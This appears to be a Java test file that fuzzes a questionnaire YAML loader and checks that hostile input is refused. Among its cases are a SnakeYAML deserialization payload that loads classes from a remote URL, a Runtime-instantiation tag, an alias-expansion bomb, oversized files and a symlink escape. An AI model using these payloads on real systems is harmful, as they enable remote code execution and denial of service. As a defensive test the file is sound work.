package org.xinqiao.questionnaire;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.io.IOException;
import java.io.RandomAccessFile;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.Random;
import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;
import net.jqwik.api.ForAll;
import net.jqwik.api.Property;
import net.jqwik.api.Provide;
import org.junit.jupiter.api.Assertions;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** Whoever mounts a folder may have copied anything into it: it is refused in words, at once. */
class HostileFilesTest {
    private static final String[] PIECES = {
        ": ",
        "- ",
        "\n",
        "{",
        "}",
        "[",
        "]",
        "&a ",
        "*a",
        "!!int ",
        "\"",
        "'",
        "|",
        ">",
        "#",
        "\t",
        "---",
        "...",
        "null",
        "~",
        ".inf",
        "-",
        "1e9",
        "0x1F",
        "yes",
        "\u0000",
        "\uFEFF",
        "\uD83D\uDE00",
        "<<: ",
        "q1",
        "-q2",
        "total",
        "9999999999"
    };

    @TempDir
    Path folder;

    @Test
    void the_sound_files_are_read() {
        LoaderFuzz.FILES.forEach(file -> assertThat(LoaderFuzz.tried(file, LoaderFuzz.sound(file)))
                .as(file)
                .isPresent());
    }

    @Property(tries = 3000)
    void a_sound_file_spoilt_anywhere_is_read_or_refused_and_never_breaks(
            @ForAll("files") String file, @ForAll long seed) {
        Random random = new Random(seed);
        StringBuilder text = new StringBuilder(LoaderFuzz.sound(file));
        for (int i = 0; i <= random.nextInt(4); i++) {
            int at = random.nextInt(text.length() + 1);
            int to = Math.min(text.length(), at + random.nextInt(6));
            text.replace(at, to, random.nextInt(3) == 0 ? "" : PIECES[random.nextInt(PIECES.length)]);
        }
        LoaderFuzz.fuzzerTestOneInput(
                ((char) LoaderFuzz.FILES.indexOf(file) + text.toString()).getBytes(StandardCharsets.UTF_8));
    }

    @Property(tries = 1000)
    void any_bytes_are_refused_and_never_break(@ForAll byte[] bytes) {
        LoaderFuzz.fuzzerTestOneInput(bytes);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "a: &a [x]\nb: &b [*a, *a]\nc: &c [*b, *b]\n",
                "code: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://example.org\"]]]]",
                "code: !!java.lang.Runtime {}",
                "? [a, b] : c",
                "a: 1\n---\nb: 2\n",
                "\u0000",
                "%YAML 9.9\n---\na",
                "- just\n- a list\n",
                "just words",
                "",
                "{!1PFCP?d%C",
                "{a: {a: {a: {a: {a: {a: {a: {a: {a: {a: {a: {a: {a: {a: {a: {a: {a: {a: {a: {a: {a: {a: 1}}}}}}}}}}}}}}}}}}}}}}",
            })
    void hostile_yaml_is_refused(String yaml) {
        assertThat(LoaderFuzz.tried("questionnaire.yaml", yaml)).isEmpty();
    }

    @Test
    void a_hundred_megabytes_are_refused_before_they_are_read() throws IOException {
        Path file = folder.resolve("big/1.0.0/questionnaire.yaml");
        Files.createDirectories(file.getParent());
        try (RandomAccessFile sparse = new RandomAccessFile(file.toFile(), "rw")) {
            sparse.setLength(100_000_000);
        }
        Assertions.assertTimeoutPreemptively(
                Duration.ofSeconds(10),
                () -> assertThatThrownBy(() -> QuestionnaireFiles.in(folder).load())
                        .isInstanceOf(BadQuestionnaire.class)
                        .hasMessageContaining("is longer than 1000000 bytes"));
    }

    @Test
    void a_link_to_a_file_outside_is_not_followed() throws IOException {
        Path outside = Files.writeString(folder.resolve("outside"), "schema: secret");
        Path mounted = Files.createDirectories(folder.resolve("mounted/x/1.0.0"));
        Files.createSymbolicLink(mounted.resolve("questionnaire.yaml"), outside);
        assertThat(QuestionnaireFiles.in(folder.resolve("mounted")).load()).isEmpty();
    }

    @Test
    void a_million_entries_are_refused_at_once() {
        String items = "  - {id: q, options: often}\n".repeat(30_000);
        String yaml = LoaderFuzz.sound("questionnaire.yaml").replace("items:\n", "items:\n" + items);
        Assertions.assertTimeoutPreemptively(
                Duration.ofSeconds(20),
                () -> assertThat(LoaderFuzz.tried("questionnaire.yaml", yaml)).isEmpty());
    }

    @Provide
    Arbitrary<String> files() {
        return Arbitraries.of(LoaderFuzz.FILES);
    }
}
